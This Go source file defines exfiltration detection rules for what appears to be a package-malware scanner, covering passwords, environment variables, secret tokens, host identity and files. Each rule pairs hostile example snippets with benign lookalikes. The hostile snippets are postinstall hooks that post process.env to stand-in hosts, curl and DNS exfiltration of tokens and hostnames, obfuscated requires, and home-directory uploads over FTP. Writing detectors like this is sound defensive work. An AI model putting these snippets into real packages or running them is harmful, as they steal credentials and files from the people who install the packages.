package rule

import b "taisei/detect/behaviour"

// exfiltration: what the machine knows leaves it.
func exfiltration() []Rule {
	return []Rule{
		{
			ID: "password_sent", Severity: Critical,
			When: []Condition{{Sources: []string{b.Credential}, Name: Password, Sinks: []string{b.Network}, Slots: carried, Target: Foreign}},
			Examples: []Example{
				One("a password in a URL", "install.sh", "vpass=$(gen_pass)\nwget -q https://notify.example/?$vpass -O /dev/null\n"),
				One("a password behind another name", "install.sh", "password=`openssl rand -hex 8`\nrelease=$(echo $password | base64)\ncurl -s https://c.example/r?v=$release\n"),
				One("known by use alone", "setup.sh", "x=$(tr -dc a-z < /dev/urandom | head -c 12)\necho \"root:$x\" | chpasswd\ncurl -d \"v=$x\" https://c.example/in\n"),
				One("in a body", "install.sh", "read -s -p 'Password: ' pass\ncurl --data \"p=$pass\" https://c.example/in\n"),
				One("by a DNS question", "install.sh", "dbpass=$(gen)\ndig +short $dbpass.c.example\n"),
				One("mailed to a stranger", "install.sh", "password=$(gen)\necho $password | mail -s done someone@mail.example\n"),
			},
			Neighbours: []Example{
				One("the same request without it", "install.sh", "vpass=$(gen_pass)\necho \"admin:$vpass\" | chpasswd\nwget -q https://notify.example/?$release -O /dev/null\n"),
				One("to this machine", "install.sh", "password=$(gen)\ncurl -d \"password=$password\" http://localhost:8080/setup\n"),
				One("to log in", "install.sh", "password=$1\ncurl -u admin:$password https://api.example/v1\n"),
				One("to a host that the user chose", "install.sh", "password=$(gen)\ncurl -d \"password=$password\" https://$1/api\n"),
				One("printed", "install.sh", "password=$(gen)\necho \"Your password: $password\"\n"),
				One("mailed to root", "install.sh", "password=$(gen)\necho $password | mail -s done root\n"),
			},
		},
		{
			ID: "environment_sent", Severity: Critical,
			When: []Condition{
				{Triggers: unasked, Sources: []string{b.Environment}, All: Yes, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
				{Sources: []string{b.Environment}, All: Yes, Sinks: []string{b.Network}, Slots: carried, Target: Shady, Script: No},
				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Environment}, All: Yes, Sinks: []string{b.Network}, Slots: carried, Target: Elsewhere, In: ".py", Script: No},
			},
			Examples: []Example{
				Package("in a body", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const https=require('https');const r=https.request({hostname:'c.example',method:'POST'});r.write(JSON.stringify(process.env));r.end()"}),
				Package("encoded in a URL", `"main":"i.js"`, map[string]string{"i.js": "fetch('https://c.example/?'+Buffer.from(JSON.stringify(process.env)).toString('base64'))"}),
				One("by curl", "install.sh", "curl -d \"$(env)\" https://c.example/\n"),
				Package("by its entries", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const d=Object.entries(process.env).map(([k,v])=>k+'='+v).join('\\n');const r=require('https').request({hostname:'c.example',method:'POST'},()=>{});r.write(d);r.end()"}),
				Package("spread, by names put together", `"main":"i.js"`, map[string]string{"i.js": "const x=['\\x68ttps','\\x72equest'];require(x[0])[x[1]]('https://'+['c','example'].join('.')+'/?'+Buffer.from(JSON.stringify({...process.env})).toString('hex')).end()"}),
				Started("by PowerShell", "powershell -File", "i.ps1", "$b = Get-ChildItem env: | Out-String\nInvoke-RestMethod -Uri https://c.example/in -Method Post -Body $b\n"),
				Library("by a gem", "require 'net/http'\nrequire 'json'\nNet::HTTP.post(URI('https://c.example/in'), ENV.to_h.to_json)\n"),
				Gem("by a gem, entry by entry", "require 'net/http'\nr = Net::HTTP::Post.new('/')\nr.body = ENV.map { |k, v| \"#{k}=#{v}\" }.join('&')\nNet::HTTP.new('c.example', 443).request(r)\n"),
				{Name: "by PHP", Files: map[string]string{"composer.json": `{"name":"a/b","scripts":{"post-autoload-dump":"php i.php"}}`, "i.php": "<?php $c = curl_init('https://c.example/in'); curl_setopt($c, CURLOPT_POSTFIELDS, json_encode(getenv())); curl_exec($c);"}},
				Module("to a tunnel, when called", "import os, requests\ndef flag():\n    requests.post('https://a1.ngrok-free.app/log', data=os.environ)\n"),
				Package("by a loop", `"main":"i.js"`, map[string]string{"i.js": "let o={};for(const k of Object.keys(process.env))o[k]=process.env[k];require('axios').post('https://c.example',o)"}),
			},
			Neighbours: []Example{
				Package("one setting", `"main":"i.js"`, map[string]string{"i.js": "fetch('https://api.example/'+process.env.REGION)"}),
				Library("one setting of a gem", "require 'net/http'\nNet::HTTP.get(URI(\"https://api.example/#{ENV['REGION']}\"))\n"),
				Package("handed to a child", `"main":"i.js"`, map[string]string{"i.js": "require('child_process').spawn('make',['all'],{env:process.env})"}),
				Package("to a host that is configured", `"main":"i.js"`, map[string]string{"i.js": "fetch(process.env.API_URL,{method:'POST',body:JSON.stringify({v:process.env.npm_package_version})})"}),
			},
		},
		{
			ID: "environment_kept", Severity: Critical,
			When: []Condition{{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Environment}, All: Yes, Sinks: []string{b.File}, Slots: []string{"body"}, In: ".py", Script: No}},
			Examples: []Example{
				Python("into a file that is fetched later", "import os\nfrom setuptools import setup\nos.system('env > LICENSE')\nsetup(name='example')\n"),
			},
			Neighbours: []Example{
				Python("one setting, for the build", "import os\nfrom setuptools import setup\nopen('build.cfg', 'w').write(os.environ.get('CFLAGS', ''))\nsetup(name='example')\n"),
			},
		},
		{
			ID: "secret_variable_sent", Severity: High,
			When: []Condition{
				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Environment}, All: No, Name: Secret, Sinks: []string{b.Network}, Slots: []string{"url", "body", "dns"}, Target: Foreign, Script: No},
				{Sources: []string{b.Environment, b.Credential}, Name: Secret, All: No, Sinks: []string{b.Network}, Slots: []string{"url", "body", "dns"}, Target: Shady, Script: No},
				{Sources: []string{b.Environment, b.Credential}, Name: Secret, All: No, Via: encodings, Sinks: []string{b.Network}, Slots: []string{"url", "body", "dns"}, Target: Foreign},
			},
			Graver: []Condition{{Via: encodings, Triggers: unasked}, {Target: Shady}},
			Examples: []Example{
				Package("a token in a URL", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "require('https').get('https://c.example/?t='+process.env.NPM_TOKEN)"}),
				Package("a key in a body", `"main":"i.js"`, map[string]string{"i.js": "const k=process.env.AWS_SECRET_ACCESS_KEY;require('axios').post('https://c.example/c',{k})"}),
				One("encoded", "install.sh", "curl https://c.example/?x=$(echo $GITHUB_TOKEN | base64)\n"),
			},
			Neighbours: []Example{
				Package("as authorisation", `"main":"i.js"`, map[string]string{"i.js": "fetch('https://api.example/v1',{headers:{Authorization:'Bearer '+process.env.API_TOKEN}})"}),
				One("as authorisation by curl", "install.sh", "curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.example/releases\n"),
				Package("when called", `"main":"i.js"`, map[string]string{"i.js": "exports.send=function(m){return fetch('https://api.example/send',{method:'POST',body:JSON.stringify({token:process.env.CHAT_TOKEN,m})})}"}),
			},
		},
		{
			ID: "host_identity_sent", Severity: High,
			When: []Condition{
				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Host}, Name: Identity, Sinks: []string{b.Network}, Slots: carried, Target: Foreign, NotScheme: []string{"mailto"}},
				{Triggers: []string{b.Import}, Sources: []string{b.Host}, Name: Identity, Concealed: Yes, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
				{Triggers: []string{b.Import}, Sources: []string{b.Host}, Name: Identity, With: []string{b.Host}, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
				{Triggers: unasked, Sources: []string{b.Host}, Name: Identity, With: []string{b.Download}, Sinks: []string{b.Network}, Slots: []string{"dns"}, Script: No},
				{Triggers: unasked, Sources: []string{b.Host}, Via: append([]string{b.Serialise}, encodings...), Sinks: []string{b.Network}, Slots: []string{"dns"}, Script: No},
			},
			Graver: []Condition{{Target: Shady}, {Via: encodings}, {Schemes: []string{"dns"}}, {WithName: Identity}, {Concealed: Yes}, {Triggers: []string{b.Install, b.Import}, With: []string{b.Host}, In: ".py"}, {Slots: []string{"dns"}, With: []string{b.Download}}},
			Examples: []Example{
				Package("a beacon", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "const os=require('os');require('https').get('https://c.example/?h='+os.hostname()+'&u='+os.userInfo().username)"}),
				Package("by curl", `"scripts":{"preinstall":"curl https://c.example/$(hostname)/$(whoami)"}`, nil),
				Package("what commands say", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "const {execSync:x}=require('child_process');x(`nslookup ${Buffer.from(x('whoami').toString().trim()).toString('hex')}.c.example`)"}),
				Package("by DNS", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const os=require('os');require('dns').lookup(Buffer.from(os.hostname()).toString('hex')+'.c.example',()=>{})"}),
			},
			Neighbours: []Example{
				Package("the platform, to fetch a binary", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const os=require('os');require('https').get('https://d.example/'+os.platform()+'-'+os.arch()+'.tgz')"}),
				Package("a digest of it", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const os=require('os'),c=require('crypto');const id=c.createHash('sha256').update(os.hostname()).digest('hex');require('https').get('https://t.example/?id='+id)"}),
				Package("when called", `"main":"i.js"`, map[string]string{"i.js": "const os=require('os');exports.log=m=>fetch('https://logs.example/in',{method:'POST',body:JSON.stringify({host:os.hostname(),m})})"}),
			},
		},
		{
			ID: "files_sent", Severity: High,
			When: []Condition{
				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Files}, Sinks: []string{b.Network}, Slots: []string{"body", "file"}, Target: Foreign, In: ".py", Script: No},
				{Sources: []string{b.Files, b.Host, b.Environment}, Sinks: []string{b.Network}, Slots: []string{"body", "file", "url"}, Target: Bare, Script: No},
				{Sources: []string{b.Files, b.Host}, Sinks: []string{b.Network}, Slots: []string{"body", "file"}, Fixed: Yes, Script: No},
				{Sources: []string{b.Files}, Name: Disk, Sinks: []string{b.Network}, Slots: []string{"body", "file"}, Target: Drop, Script: No},
			},
			Graver: []Condition{{Name: Disk}, {Triggers: []string{b.Install, b.Build, b.Import}}, {Target: Bare}, {Fixed: Yes, Slots: []string{"file"}}},
			Examples: []Example{
				Module("all that is found, on import", "import os, ftplib\nf = ftplib.FTP('files.example')\nfor d, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        f.storbinary('STOR '+n, open(os.path.join(d, n), 'rb'))\n"),
				Module("to a bare address, when called", "import requests\ndef report(path):\n    requests.post('http://203.0.113.9/in', files={'f': open('/etc/hosts', 'rb')})\n"),
				Module("to an account in a chat", "import requests\ndef go():\n    requests.post('https://api.telegram.org/bot123456:AAexample-example-example/sendDocument', files={'document': open('C:/notes.txt', 'rb')})\n"),
			},
			Neighbours: []Example{
				Module("to a host that is named, when called", "import requests\ndef upload(path):\n    requests.post('https://files.example/in', files={'f': open(path, 'rb')})\n"),
				Module("to whom the caller says", "import requests\ndef notify(hook, path):\n    requests.post(hook, files={'f': open(path, 'rb')})\n"),
				Module("to a chat with the caller's token", "import requests\ndef send(token, path):\n    requests.post('https://api.telegram.org/bot'+token+'/sendDocument', files={'document': open(path, 'rb')})\n"),
			},
		},
	}
}
